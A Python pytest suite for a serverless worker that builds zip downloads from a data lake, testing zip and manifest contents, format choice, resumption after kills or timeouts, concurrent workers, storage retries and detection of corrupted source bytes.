"""The worker makes the zip that is asked for, however often it is stopped, and says why where it cannot."""

import csv
import gzip
import hashlib
import io
import itertools
import json
import random
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import EndpointConnectionError
from hypothesis import given, settings
from hypothesis import strategies as st
from isal import isal_zlib

from consumers.bucket import PartOfUpload, Upload
from exporter.downloads.jobs import (
    Cells,
    Job,
    Request,
    State,
    job_key,
    plan_key,
    zip_key,
)
from exporter.downloads.limits import DownloadLimits
from exporter.downloads.service import DownloadService
from exporter.downloads.stored_jobs import read_job
from exporter.lake import manifest as archive
from exporter.lake.batch import Batch
from exporter.lake.cells import is_formula, safe
from exporter.lake.days import Day
from exporter.lake.formats import Format, ZipFormat
from exporter.lake.manifest import Manifest, Part
from exporter.store import Column, Days, Values
from exporter.zips import handler as zipper
from exporter.zips.failures import UnavailableError
from exporter.zips.making import (
    MARGIN_S,
    MAX_PARTS,
    PART_BYTES,
    PARTS_OF_A_SIZE,
    Budget,
    make_zip,
    part_size,
    size_of_parts,
)
from exporter.zips.packing import is_large, kept_format, most_bytes
from tests.builders import Context, sqs_event
from tests.twins import Bucket, Links, client_error, leased, write_job

DAY = date(2025, 11, 20)
NOW = datetime(2025, 11, 22, tzinfo=UTC)
ID = "0123456789abcdef0123456789abcdef"
KEY = f"{archive.folder(DAY)}part-00000-r1.csv.gz"
COLUMNS = (Column("time", "timestamp"), Column("client", "text"), Column("n", "number"))
MEBIBYTE = 1 << 20
NASTY = ['"', '""', ",", "\n", "\r\n", "", " ", "\x00", "é\u2028😀", "=1+1", "x" * 10_000]


def lines(first: int, count: int) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow([column.name for column in COLUMNS])
    # What cannot be packed much, so that small tests have uploads of several parts.
    noise = random.Random(first)
    for number in range(first, first + count):
        writer.writerow(
            [f"2025-11-20 10:00:00.{number:09}", "acme" if number % 3 else "zeta", noise.random()]
        )
    return text.getvalue().encode()


def put_day(
    bucket: Bucket,
    day: date,
    *texts: bytes,
    kind: str = ".csv.gz",
    revision: int = 1,
    rows: int | None = None,
    formulas: int | None = 0,
) -> None:
    parts = []
    folder = archive.folder(day, kind[1:])
    for number, text in enumerate(texts):
        body = gzip.compress(text, 6, mtime=0) if kind.endswith(".gz") else text
        key = f"{folder}part-{number:05}-r{revision}{kind}"
        bucket[key] = body
        count = text.count(b"\n") - 1 if rows is None else rows
        sha256 = hashlib.sha256(body).hexdigest()
        parts.append(Part(key, count, len(body), sha256, "", "", formulas=formulas))
    columns: tuple[Column, ...] = COLUMNS
    if kind.startswith(".csv") and texts:
        types = dict(COLUMNS)
        names = texts[0].partition(b"\n")[0].decode().split(",")
        columns = tuple(Column(name, types.get(name, "text")) for name in names)
    manifest = Manifest(day, revision, columns, tuple(parts), kind[1:])
    bucket[folder + archive.MANIFEST] = manifest.to_json()


def lake(days: int = 3, parts: int = 3, count: int = 4_000) -> Bucket:
    return Bucket(_lake(days, parts, count))


@cache
def _lake(days: int, parts: int, count: int) -> Bucket:
    bucket = Bucket()
    for day in range(days):
        texts = [lines(1_000_000 * day + 100_000 * part, count) for part in range(parts)]
        put_day(bucket, DAY + timedelta(days=day), *texts)
    return bucket


def job(days: int = 3, **wanted: Any) -> Job:
    return Job(ID, Request(Days(DAY, DAY + timedelta(days=days - 1)), **wanted))


def budget(left_s: float = 900, part_bytes: int = 64 * 1024) -> Budget:
    return Budget(lambda: left_s, part_bytes=part_bytes)


def zip_of(bucket: Bucket, asked: Job, given: Budget | None = None) -> bytes:
    made = make_zip(leased(bucket, asked), given or budget())
    assert made.state.has_zip
    return bucket[zip_key(asked.id)]


def read(body: bytes) -> tuple[dict[str, bytes], dict[str, Any]]:
    with zipfile.ZipFile(io.BytesIO(body)) as made:
        assert made.testzip() is None
        files = {name: made.read(name) for name in made.namelist()}
    return files, json.loads(files.pop("manifest.json"))


# --- what is in it ----------------------------------------------------------------------------------------


def test_the_lakes_own_files_are_in_it_as_they_are_packed_there() -> None:
    bucket = lake()

    files, manifest = read(body := zip_of(bucket, job()))

    assert files == {
        f"{DAY + timedelta(days=day)}-part-{part:05}.csv": lines(1_000_000 * day + 100_000 * part, 4_000)
        for day in range(3)
        for part in range(3)
    }
    assert manifest["rows"] == 3 * 3 * 4_000
    packed = bucket[f"{archive.folder(DAY)}part-00000-r1.csv.gz"]
    assert packed[10:-8] in body


def test_the_manifest_in_it_says_what_the_files_are() -> None:
    bucket = lake(days=1, parts=2, count=5)
    put_day(bucket, DAY + timedelta(days=2), revision=4)

    files, manifest = read(zip_of(bucket, job(days=3)))

    kept = Manifest.from_json(bucket[archive.folder(DAY) + archive.MANIFEST])
    assert manifest == {
        "start_date": "2025-11-20",
        "end_date": "2025-11-22",
        "format": "csv",
        "columns": None,
        "only": {},
        "rows": 10,
        "days": [
            {"day": "2025-11-20", "rows": 10, "revision": 1},
            {"day": "2025-11-22", "rows": 0, "revision": 4},
        ],
        "days_not_exported": ["2025-11-21"],
        "files": [
            {
                "name": name,
                "rows": 5,
                "bytes": len(body),
                "crc32": f"{zipfile.crc32(body):08x}",  # type: ignore[attr-defined]  # of zlib
                "source_sha256": part.sha256,
            }
            for (name, body), part in zip(files.items(), kept.parts, strict=True)
        ],
    }


def test_the_manifest_in_it_says_which_days_are_partial() -> None:
    bucket = lake(days=2, parts=1, count=5)
    key = archive.folder(DAY) + archive.MANIFEST
    since = "2025-11-20 15:00:00.000000000"
    bucket[key] = replace(Manifest.from_json(bucket[key]), partial_since=since).to_json()

    _, manifest = read(zip_of(bucket, job(days=2)))

    assert [day.get("partial_since") for day in manifest["days"]] == [since, None]


def test_the_object_tells_its_days_its_revision_and_the_checksum_of_what_it_was_made_of() -> None:
    bucket = lake(days=2, parts=1, count=1)
    zip_of(bucket, job(2))
    before = bucket.metadata[zip_key(ID)]
    put_day(bucket, DAY, lines(7, 7), revision=2)
    zip_of(bucket, job(2))
    after = bucket.metadata[zip_key(ID)]

    assert (before["first-day"], before["last-day"], before["days"]) == ("2025-11-20", "2025-11-21", "2")
    assert (before["last-revision"], after["last-revision"]) == ("1", "2")
    assert len(before["revisions-sha256"]) == 64
    assert before["revisions-sha256"] != after["revisions-sha256"]
    # https://docs.aws.amazon.com/AmazonS3/latest/userguide/UsingMetadata.html
    assert sum(len(name) + len(value) for name, value in after.items()) < 2048


@pytest.mark.parametrize("days", [0, 2])
def test_a_range_without_rows_gives_a_valid_zip_that_holds_only_a_manifest(days: int) -> None:
    bucket = Bucket()
    for day in range(days):
        put_day(bucket, DAY + timedelta(days=day))

    made = make_zip(leased(bucket, job()), budget())

    files, manifest = read(bucket[zip_key(ID)])
    assert (files, manifest["rows"], made.state, made.rows) == ({}, 0, State.EMPTY, 0)


def test_a_part_whose_name_has_its_revision_has_the_same_name_in_the_zip() -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 1), revision=3)

    assert list(read(zip_of(bucket, job(1)))[0]) == ["2025-11-20-part-00000.csv"]


@pytest.mark.parametrize(
    ("kind", "wanted", "expected"),
    [
        (".csv", {}, lines(0, 9)),
        (".csv.gz", {"columns": ("client",)}, b"client\n" + b"zeta\nacme\nacme\n" * 3),
        (".csv", {"client": "zeta", "columns": ("time",)}, b"time\n" + b"".join(
            b"2025-11-20 10:00:00.%09d\n" % number for number in (0, 3, 6))),
        (".csv.gz", {"tenant": "zeta", "columns": ("client",)}, b"client\n" + b"zeta\n" * 3),
        (".csv.gz", {"client": "nobody"}, b"time,client,n\n"),
        (".csv.gz", {"route": "/"}, b"time,client,n\n"),
        (".csv.gz", {"format": ZipFormat.JSONL, "columns": ("client",)},
         b'{"client":"zeta"}\n{"client":"acme"}\n{"client":"acme"}\n' * 3),
    ],
)  # fmt: skip
def test_formats_rows_and_columns_are_those_that_are_asked_for(
    kind: str, wanted: dict[str, Any], expected: bytes
) -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 9), kind=kind, rows=9)
    asked = job(1, **wanted)

    files, manifest = read(zip_of(bucket, asked))

    assert files == {f"2025-11-20-part-00000.{asked.request.format}": expected}
    header = 1 if asked.request.format is ZipFormat.CSV else 0
    assert manifest["rows"] == manifest["files"][0]["rows"] == expected.count(b"\n") - header
    assert manifest["only"] == asked.request.values


@pytest.mark.parametrize(
    ("kind", "format_"), [(".jsonl.gz", ZipFormat.JSONL), (".parquet", ZipFormat.PARQUET)]
)
def test_what_is_kept_in_the_wanted_format_goes_in_as_it_is(kind: str, format_: ZipFormat) -> None:
    bucket = Bucket()
    put_day(bucket, DAY, b'{"a": 1}\n', kind=kind, rows=1)

    files, manifest = read(zip_of(bucket, job(1, format=format_)))

    assert files == {f"2025-11-20-part-00000.{format_}": b'{"a": 1}\n'}
    assert manifest["rows"] == 1


@pytest.mark.parametrize(
    ("kind", "wanted", "reason"),
    [
        (".parquet", {}, "2025-11-20 is kept as parquet: it cannot be downloaded as csv"),
        (".parquet", {"format": ZipFormat.PARQUET, "client": "a"}, "2025-11-20 is kept as parquet: it can"),
        (".csv.gz", {"format": ZipFormat.PARQUET}, "2025-11-20 is kept as csv: it cannot be downloaded as"),
        (".parquet", {"format": ZipFormat.ANY, "client": "a"}, "2025-11-20 is kept as parquet: it can be"),
        (".csv.gz", {"columns": ("time", "nine")}, "no day has a column 'nine'; the columns are client"),
    ],
)  # fmt: skip
def test_what_cannot_be_had_is_refused_by_name_and_not_tried_again(
    kind: str, wanted: dict[str, Any], reason: str
) -> None:
    bucket = Bucket()
    put_day(bucket, DAY, lines(0, 3), kind=kind)
    worker = Worker(bucket)

    assert worker.work(job(1, **wanted)) == []

    failed = worker.reported[-1]
    assert failed.state is State.FAILED
    assert str(failed.reason).startswith(reason)
    assert (read_job(bucket, ID), bucket.uploads) == (failed, {})


@pytest.mark.parametrize(
    ("kinds", "wanted", "taken"),
    [
        ([".csv", ".csv.gz", ".jsonl.gz", ".parquet"], ZipFormat.CSV, ".csv.gz"),
        ([".csv", ".jsonl.gz", ".parquet"], ZipFormat.CSV, ".csv"),
        ([".csv", ".csv.gz", ".jsonl.gz", ".parquet"], ZipFormat.JSONL, ".jsonl.gz"),
        ([".csv", ".csv.gz", ".jsonl.gz", ".parquet"], ZipFormat.PARQUET, ".parquet"),
    ],
)
def test_a_day_that_is_kept_in_several_formats_is_taken_from_the_one_that_serves_best(
    kinds: list[str], wanted: ZipFormat, taken: str
) -> None:
    bucket = Bucket()
    for revision, kind in enumerate(kinds):
        put_day(bucket, DAY, kind.encode(), kind=kind, revision=revision, rows=1)

    files, manifest = read(zip_of(bucket, job(1, format=wanted)))

    assert files == {f"2025-11-20-part-00000.{wanted}": taken.encode()}
    assert [each["revision"] for each in manifest["days"]] == [kinds.index(taken)]


def test_each_format_of_the_lake_can_be_had_as_one() -> None:
    assert {kept_as for wanted in ZipFormat for kept_as in wanted.made_of} == set(Format)
    with pytest.raises(UnavailableError, match=r"unknown format; the formats are csv, csv\.gz, "):
        kept_format("records/part-00000.orc")


@pytest.mark.parametrize("program", [["unzip", "-tqq"], ["7z", "t"], ["bsdtar", "-xOf"], ["jar", "tf"]])
def test_every_nasty_value_arrives_and_the_zip_tests_clean(program: list[str], tmp_path: Path) -> None:
    if shutil.which(program[0]) is None:
        pytest.skip(f"{program[0]} is not on this machine")
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerows([["time", "client", "n"], *([value] * 3 for value in NASTY)])
    bucket = Bucket()
    put_day(bucket, DAY, text.getvalue().replace("\r\n", "\n").encode(), rows=len(NASTY))
    path = tmp_path / "nasty.zip"
    path.write_bytes(zip_of(bucket, job(1, cells=Cells.EXACT)))

    done = subprocess.run([*program, path], capture_output=True, check=False)

    assert done.returncode == 0, done.stderr
    (body,) = read(path.read_bytes())[0].values()
    assert body == text.getvalue().replace("\r\n", "\n").encode()


# --- stopped and taken up ---------------------------------------------------------------------------------


class KilledError(BaseException):
    """What no code of ours catches, as none can when it is killed."""


class Mortal(Bucket):
    """A bucket whose user is killed at its n-th call that writes, before or after it is done."""

    def __init__(self, content: Bucket, dies_at: int, *, after: bool) -> None:
        super().__init__(content)
        self.uploads, self.begun, self.metadata = content.uploads, content.begun, content.metadata
        self.left, self.after = dies_at, after

    def _die(self, *, after: bool) -> None:
        if not after:
            self.left -= 1
        if self.left == 0 and self.after is after:
            raise KilledError

    def put(self, key: str, chunks: Iterable[bytes], content_type: str) -> None:
        self._die(after=False)
        super().put(key, chunks, content_type)
        self._die(after=True)

    def begin(self, *arguments: Any, **named: Any) -> Upload:
        self._die(after=False)
        made = super().begin(*arguments, **named)
        self._die(after=True)
        return made

    def add(self, upload: Upload, number: int, body: bytes | bytearray) -> PartOfUpload:
        self._die(after=False)
        made = super().add(upload, number, body)
        self._die(after=True)
        return made

    def replace(self, key: str, body: bytes, tag: str | None) -> bool:
        self._die(after=False)
        made = super().replace(key, body, tag)
        self._die(after=True)
        return made

    def complete(self, upload: Upload, parts: Sequence[PartOfUpload]) -> None:
        self._die(after=False)
        super().complete(upload, parts)
        self._die(after=True)

    def delete(self, keys: Iterable[str]) -> None:
        self._die(after=False)
        super().delete(keys)
        self._die(after=True)


class Worker:
    """The function, with what it sends and says."""

    def __init__(self, bucket: Bucket, given: Budget | None = None) -> None:
        self.bucket = bucket
        self.sent: list[str] = []
        self.delays: list[int] = []
        self.reported: list[Job] = []
        self.errors: list[Exception | None] = []
        self.handler = zipper.make_handler(
            bucket, send=self._send, report=self._report, budget=lambda _left: given or budget()
        )

    def _send(self, message: str, delay_s: int) -> None:
        self.sent.append(message)
        self.delays.append(delay_s)

    def _report(self, job: Job, error: Exception | None) -> None:
        self.reported.append(job)
        self.errors.append(error)

    def work(self, *jobs: Job) -> list[dict[str, str]]:
        for each in jobs:
            write_job(self.bucket, each)
        return self.receive(*(each.to_json() for each in jobs))

    def receive(self, *messages: str) -> list[dict[str, str]]:
        failures: list[dict[str, str]] = self.handler(sqs_event(*messages), Context())["batchItemFailures"]
        return failures


class Hurried(Budget):
    """A budget that publishes often, and ends after so many looks at the time."""

    def __init__(self, looks: int, part_bytes: int = 64 * 1024, publish_every: int = 20) -> None:
        super().__init__(self._left, part_bytes=part_bytes)
        self.looks = looks
        self.publish_every = publish_every

    def _left(self) -> float:
        self.looks -= 1
        return MARGIN_S + 1 if self.looks >= 0 else MARGIN_S - 1

    def is_time_to_publish(self) -> bool:
        return self.looks % self.publish_every == 0


REQUESTS: list[dict[str, Any]] = [{}, {"client": "acme"}, {"format": ZipFormat.JSONL}]


@pytest.mark.parametrize("wanted", REQUESTS, ids=["copied", "chosen", "as JSON"])
@pytest.mark.parametrize("after", [False, True], ids=["before a call", "after a call"])
def test_a_worker_that_is_killed_anywhere_and_runs_again_makes_the_same_zip(
    wanted: dict[str, Any], after: bool
) -> None:
    asked = job(**wanted)
    expected = zip_of(lake(count=1_500), asked)
    assert len(expected) > 10 * 10_000, "there are many parts to be killed in"
    chance = random.Random(after)
    kills = 0
    for _ in range(3):
        bucket = lake(count=1_500)
        write_job(bucket, asked)
        found = None
        for at in range(100):
            mortal = Mortal(bucket, chance.randrange(1, 20), after=after)
            given = Hurried(10_000, part_bytes=10_000, publish_every=1 if wanted else 20)
            given.now = lambda at=at: 300 * at  # type: ignore[misc]  # a killed worker's job is stuck then
            try:
                Worker(mortal, given).receive(asked.to_json())
            except KilledError:
                kills += 1
            bucket.clear()
            bucket.update(mortal)
            found = read_job(bucket, ID)
            if found is not None and found.state is State.READY:
                break
        assert found is not None
        assert bucket[zip_key(ID)] == expected
        assert found.rows == read(expected)[1]["rows"]
    # How many calls a part takes depends on which of the worker's threads is first.
    assert kills > 2


@pytest.mark.parametrize("wanted", REQUESTS, ids=["copied", "chosen", "as JSON"])
@pytest.mark.parametrize("part_bytes", [64 * 1024, 8 * MEBIBYTE], ids=["parts", "no whole part"])
def test_a_worker_whose_time_is_over_goes_on_in_another_invocation(
    wanted: dict[str, Any], part_bytes: int
) -> None:
    asked = job(**wanted)
    expected = zip_of(lake(), asked, budget(part_bytes=part_bytes))
    bucket = lake()
    write_job(bucket, asked)
    messages, turns = [asked.to_json()], 0

    while messages:
        turns += 1
        worker = Worker(bucket, Hurried(200 if wanted == {} else 6, part_bytes))
        assert worker.receive(messages.pop()) == []
        messages += worker.sent
        assert worker.reported[-1].state is (State.RUNNING if messages else State.READY)

    assert turns > 2
    assert bucket[zip_key(ID)] == expected
    assert [key for key in bucket if key.startswith("tmp/")] == [job_key(ID), zip_key(ID)]
    assert bucket.uploads == {}


def test_a_worker_that_gets_nowhere_in_its_time_fails_instead_of_going_on_for_ever() -> None:
    bucket = lake()
    worker = Worker(bucket, Hurried(1))

    assert len(worker.work(job())) == 1

    assert (worker.sent, bucket.uploads) == ([], {})
    assert "has not enough time for a single member" in str(worker.reported[-1].reason)


def test_what_was_begun_by_another_release_is_begun_anew() -> None:
    expected = zip_of(lake(), job())
    bucket = lake()
    write_job(bucket, job())
    Worker(bucket, Hurried(200)).receive(job().to_json())
    plan = json.loads(bucket[plan_key(ID)])
    bucket[plan_key(ID)] = json.dumps({**plan, "maker": "an older one"}).encode()

    Worker(bucket).receive(job().to_json())

    assert bucket[zip_key(ID)] == expected
    assert bucket.uploads == {}


def test_a_day_that_is_exported_anew_meanwhile_is_in_the_zip_as_it_was() -> None:
    expected = zip_of(lake(), job())
    bucket = lake()
    write_job(bucket, job())
    Worker(bucket, Hurried(200)).receive(job().to_json())
    put_day(bucket, DAY + timedelta(days=2), lines(5, 5), revision=2)

    Worker(bucket).receive(job().to_json())

    assert bucket[zip_key(ID)] == expected


def test_files_that_are_gone_meanwhile_make_it_fail_with_what_to_do() -> None:
    bucket = lake()
    write_job(bucket, job())
    Worker(bucket, Hurried(200)).receive(job().to_json())
    bucket.delete(list(bucket.keys(archive.folder(DAY + timedelta(days=2)))))
    worker = Worker(bucket)

    worker.receive(job().to_json())

    assert str(worker.reported[-1].reason).startswith(archive.folder(DAY + timedelta(days=2)))
    assert str(worker.reported[-1].reason).endswith("is gone, as after a new export of its day: ask again")
    assert bucket.uploads == {}


# --- deliveries and failures ------------------------------------------------------------------------------


def test_a_message_that_comes_twice_makes_one_zip() -> None:
    bucket = lake()
    worker = Worker(bucket)
    worker.work(job())
    first = dict(bucket)

    assert worker.receive(job().to_json()) == []
    assert dict(bucket) == first
    assert len(worker.reported) == 1


class Crossed(Bucket):
    """A bucket where something else is done before a worker's n-th call.

    Args:
        content: What is in it.
        crossings: What is done, by the call.
    """

    def __init__(self, content: Bucket, crossings: dict[int, Callable[[], object]]) -> None:
        super().__init__(content)
        self.crossings = crossings
        self.count = 0

    def _cross(self) -> None:
        self.count += 1
        if done := self.crossings.pop(self.count, None):
            done()

    def read(self, key: str) -> tuple[bytes, str] | None:
        self._cross()
        return super().read(key)

    def replace(self, key: str, body: bytes, tag: str | None) -> bool:
        found = super().read(key)
        if tag == (found and found[1]):
            self._cross()
            found = super().read(key)
        if tag != (found and found[1]):
            return False
        self[key] = body
        return True

    def put(self, key: str, chunks: Iterable[bytes], content_type: str) -> None:
        self._cross()
        super().put(key, chunks, content_type)

    def begin(self, *arguments: Any, **named: Any) -> Upload:
        self._cross()
        return super().begin(*arguments, **named)

    def complete(self, upload: Upload, parts: Sequence[PartOfUpload]) -> None:
        self._cross()
        super().complete(upload, parts)

    def delete(self, keys: Iterable[str]) -> None:
        self._cross()
        super().delete(keys)


class Crowd:
    """Workers, callers and exports that come in each other's way."""

    def __init__(self, crossings: dict[int, str]) -> None:
        does = {name: getattr(self, name) for name in CROSSINGS}
        self.bucket = Crossed(lake(1, 2, 120), {call: does[name] for call, name in crossings.items()})
        self.now = NOW
        self.messages: list[str] = []
        self.service = DownloadService(
            self.bucket, Links(self._now), self.messages.append, 600, self._now, DownloadLimits(1 << 40, 100)
        )
        # The last download that somebody asked for, and those that are deleted.
        self.asked = ""
        self.deleted: set[str] = set()

    def works(self, looks: int = 10_000) -> None:
        message = self.messages.pop() if self.messages else json.dumps({"id": self.asked})
        given = Hurried(looks, part_bytes=1_000, publish_every=3)
        given.now = lambda: self._now().timestamp()
        worker = Worker(self.bucket, given)
        if worker.receive(message):
            self.messages.append(message)
        self.messages += worker.sent

    def leaves(self) -> None:
        self.works(looks=8)

    def is_asked(self) -> None:
        self.asked = self.service.request(job(1).request).id
        self.deleted.discard(self.asked)

    def is_looked_at(self) -> None:
        self.service.look(self.asked, None)

    def stands_still(self) -> None:
        self.now += timedelta(minutes=5)

    def is_deleted(self) -> None:
        if (found := self.service.find(self.asked, None)) is not None:
            self.service.delete(found.job)
        # Unless it was asked for again just after it was deleted.
        if job_key(self.asked) not in self.bucket:
            self.deleted.add(self.asked)

    def is_exported(self) -> None:
        put_day(self.bucket, DAY, lines(7, 50), lines(8, 90), revision=2)
        for key in list(self.bucket.keys(archive.folder(DAY))):
            if key.endswith("-r1.csv.gz"):
                del self.bucket[key]

    def is_given_up(self) -> None:
        self.bucket.uploads.clear()

    def _now(self) -> datetime:
        self.now += timedelta(seconds=1)
        return self.now


CROSSINGS = [
    "works",
    "leaves",
    "is_asked",
    "is_looked_at",
    "stands_still",
    "is_deleted",
    "is_exported",
    "is_given_up",
]


def end_with_one_whole_zip_or_none(crossings: dict[int, str]) -> int:
    """Let them come in each other's way, look at what is left, and return how many calls there were."""
    crowd = Crowd(crossings)
    bucket = crowd.bucket
    crowd.is_asked()

    for _ in range(30):
        if not crowd.messages:
            break
        crowd.works()
        # What a worker left without a message is sent again to the one who waits for it.
        crowd.stands_still()
        crowd.is_looked_at()
    bucket.crossings.clear()

    assert crowd.messages == []
    found = read_job(bucket, crowd.asked)
    assert (found is None) == (crowd.asked in crowd.deleted)
    # A caller who was too late may leave a marker, which is removed before it counts. Another marker stays of
    # each deleted download.
    kept = [key for key in bucket.keys("tmp/") if "/active/" not in key and not key.endswith(".deleted.json")]
    for identity in {key[len("tmp/") :].partition(".")[0] for key in kept}:
        done = read_job(bucket, identity)
        assert done is not None
        assert done.state is State.READY
        assert read(bucket[zip_key(identity)])[1]["rows"] == done.rows
        of_job = sorted(key for key in kept if key.startswith(f"tmp/{identity}"))
        assert of_job == [job_key(identity), zip_key(identity)]
    # Workers that fail at the same moment may leave an upload that is nobody's, until it is a day old.
    assert bucket.uploads == {} or {"is_given_up", "leaves"} & set(crossings.values())
    return bucket.count


@pytest.mark.parametrize("name", CROSSINGS)
def test_whoever_comes_in_between_at_any_call_there_is_one_whole_zip_in_the_end_or_none(name: str) -> None:
    call = 0
    while (call := call + 1) <= end_with_one_whole_zip_or_none({call: name}):
        pass

    assert call > 20


@pytest.mark.parametrize("seed", range(4))
def test_whoever_comes_in_between_at_several_calls_there_is_one_whole_zip_in_the_end_or_none(
    seed: int,
) -> None:
    chance = random.Random(seed)
    for _ in range(250):
        calls = chance.sample(range(1, 61), chance.randrange(2, 6))
        crossings = {call: chance.choice(CROSSINGS) for call in calls}
        try:
            end_with_one_whole_zip_or_none(crossings)
        except Exception as error:
            raise AssertionError(str(crossings)) from error


@pytest.mark.parametrize(
    "crossings",
    [
        {9: "stands_still", 10: "works"},
        {9: "stands_still", 10: "is_looked_at", 11: "works", 14: "is_deleted"},
        {9: "is_deleted", 12: "is_asked", 13: "works"},
    ],
    ids=str,
)
def test_what_once_went_wrong_ends_with_one_whole_zip_or_none(crossings: dict[int, str]) -> None:
    end_with_one_whole_zip_or_none(crossings)


def overtaking(bucket: Bucket, *, publishes: bool) -> Budget:
    """Return a budget in which another worker does all of it while this one stands still."""
    later = budget()
    later.now = lambda: 300

    class Overtaken(Budget):
        overtaken = False

        def is_time_to_publish(self) -> bool:
            if not self.overtaken and bucket.calls > 2:
                self.overtaken = True
                Worker(bucket, later).receive(job().to_json())
            return publishes

    return Overtaken(lambda: 900, now=lambda: 0, part_bytes=64 * 1024)


@pytest.mark.parametrize("publishes", [False, True])
def test_two_workers_at_once_with_one_message_make_one_zip(publishes: bool) -> None:
    expected = zip_of(lake(), job())
    bucket = lake()
    write_job(bucket, job())
    worker = Worker(bucket, overtaking(bucket, publishes=publishes))

    assert worker.receive(job().to_json()) == []

    assert (bucket[zip_key(ID)], bucket.uploads, worker.reported) == (expected, {}, [])
    found = read_job(bucket, ID)
    assert found is not None
    assert found.state is State.READY


def test_a_worker_gives_way_to_one_that_changed_the_job_a_moment_ago() -> None:
    bucket = lake()
    given = Hurried(10_000)
    given.now = lambda: 299
    failures: list[dict[str, str]] = []

    class Twice(Budget):
        def is_time_to_publish(self) -> bool:
            if not failures:
                failures.extend(Worker(bucket, given).receive(job().to_json()))
            return True

    worker = Worker(bucket, Twice(lambda: 900, now=lambda: 0, part_bytes=64 * 1024))

    assert worker.work(job()) == []

    # The second delivery comes again after its visibility timeout, and finds the zip.
    assert len(failures) == 1
    assert [each.state for each in worker.reported] == [State.READY]
    assert Worker(bucket).receive(job().to_json()) == []


def test_a_worker_that_fails_late_takes_nothing_from_the_one_that_was_quicker() -> None:
    class Failing(Bucket):
        def add(self, upload: Upload, number: int, body: bytes | bytearray) -> PartOfUpload:
            if zip_key(ID) in self:
                raise client_error("SlowDown", 503)
            return super().add(upload, number, body)

    bucket = Failing(lake())
    write_job(bucket, job())
    worker = Worker(bucket, overtaking(bucket, publishes=False))

    assert worker.receive(job().to_json()) == []

    found = read_job(bucket, ID)
    assert found is not None
    assert (found.state, zip_key(ID) in bucket) == (State.READY, True)


def test_what_is_written_although_the_answer_was_lost_is_written() -> None:
    class Deaf(Bucket):
        """botocore asks again, and S3 then finds that what was to be replaced is another by now."""

        def replace(self, key: str, body: bytes, tag: str | None) -> bool:
            super().replace(key, body, tag)
            return False

    bucket = Deaf(lake())
    worker = Worker(bucket)

    assert worker.work(job()) == []

    assert worker.reported[-1].state is State.READY
    assert (bucket[zip_key(ID)], bucket.uploads) == (zip_of(lake(), job()), {})


class Throttled(Bucket):
    """A bucket that refuses as many uploads of parts as told, from the sixth on."""

    def __init__(self, content: Bucket, refusals: int, error: Exception) -> None:
        super().__init__(content)
        self.refusals, self.error = refusals, error

    def add(self, upload: Upload, number: int, body: bytes | bytearray) -> PartOfUpload:
        if self.calls >= 5 and self.refusals:
            self.refusals -= 1
            raise self.error
        return super().add(upload, number, body)


PASSING = [
    client_error("SlowDown", 503),
    client_error("InternalError", 500),
    client_error("RequestTimeout", 400),
    EndpointConnectionError(endpoint_url="https://s3"),
    ConnectionResetError("reset"),
]


@pytest.mark.parametrize("error", PASSING, ids=str)
def test_an_error_of_s3_that_passes_is_resumed_behind_the_last_part(error: Exception) -> None:
    expected = zip_of(lake(), job())
    bucket = Throttled(lake(), 1, error)
    worker = Worker(bucket)

    assert worker.work(job()) == []

    assert (worker.reported[-1].state, worker.reported[-1].retries, worker.delays) == (State.RUNNING, 1, [60])
    assert [len(parts) for parts in bucket.uploads.values()] == [5]
    parts = bucket.calls
    assert worker.receive(*worker.sent) == []
    assert worker.reported[-1].state is State.READY
    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})
    assert bucket.calls == -(-len(expected) // (64 * 1024)), f"{parts} parts were not uploaded again"


def test_an_error_of_s3_that_does_not_pass_fails_the_zip() -> None:
    bucket = Throttled(lake(), 100, client_error("SlowDown", 503))
    worker = Worker(bucket)
    worker.work(job())

    turns = 1
    while worker.reported[-1].state is State.RUNNING:
        turns += 1
        worker.receive(worker.sent[-1])

    assert turns == zipper.MAX_RETRIES + 1
    failed = worker.reported[-1]
    assert (failed.state, failed.reason) == (
        State.FAILED,
        "the storage did not answer several times in a row: ask again",
    )
    assert failed.incident is not None
    assert (bucket.uploads, plan_key(ID) in bucket) == ({}, False)


FLIPPED: list[tuple[Format, dict[str, Any]]] = [
    (Format.CSV_GZ, {}),
    (Format.CSV_GZ, {"client": "acme"}),
    (Format.CSV, {"columns": ("n",)}),
    (Format.JSONL_GZ, {"format": ZipFormat.JSONL}),
    (Format.JSONL_GZ, {"format": ZipFormat.JSONL, "client": "acme"}),
    (Format.CSV_GZ, {"format": ZipFormat.JSONL}),
    (Format.PARQUET, {"format": ZipFormat.PARQUET}),
]


@cache
def _written(kind: Format) -> Bucket:
    """Return a lake with a day of two parts, as the exporter writes it."""
    bucket = Bucket()
    rows: list[Values] = [
        [f"2025-11-20 10:00:00.{number:09}", "request", "acme" if number % 3 else "zeta", str(number)]
        for number in range(60)
    ]
    columns = (*COLUMNS[:1], Column("_type", "text"), *COLUMNS[1:])
    day = Day(bucket, DAY, kind)
    batches = (Batch(rows[start : start + 10]) for start in range(0, 60, 10))
    parts = tuple(day.write(batches, columns, 1, size=1_000))
    assert len(parts) > 1
    day.commit(Manifest(DAY, 1, columns, parts, kind), None, NOW)
    return bucket


@given(st.sampled_from(FLIPPED), st.data())
@settings(deadline=None, max_examples=250)
def test_a_damaged_byte_of_the_lake_fails_the_zip_by_name_or_changes_nothing_in_it(
    wanted: tuple[Format, dict[str, Any]], data: st.DataObject
) -> None:
    kind, request = wanted
    asked = job(1, **request)
    whole = read(zip_of(Bucket(_written(kind)), asked))[0]
    bucket = Bucket(_written(kind))
    key = data.draw(st.sampled_from([key for key in bucket if "symlink" not in key]))
    body = bytearray(bucket[key])
    place = data.draw(st.integers(0, len(body) - 1))
    body[place] ^= 1 << data.draw(st.integers(0, 7))
    bucket[key] = bytes(body)
    worker = Worker(bucket)

    worker.work(asked)

    ended = worker.reported[-1]
    if ended.state is State.FAILED:
        assert archive.folder(DAY, kind) in str(ended.reason)
        assert (zip_key(ID) in bucket, bucket.uploads) == (False, {})
    else:
        assert ended.state is State.READY
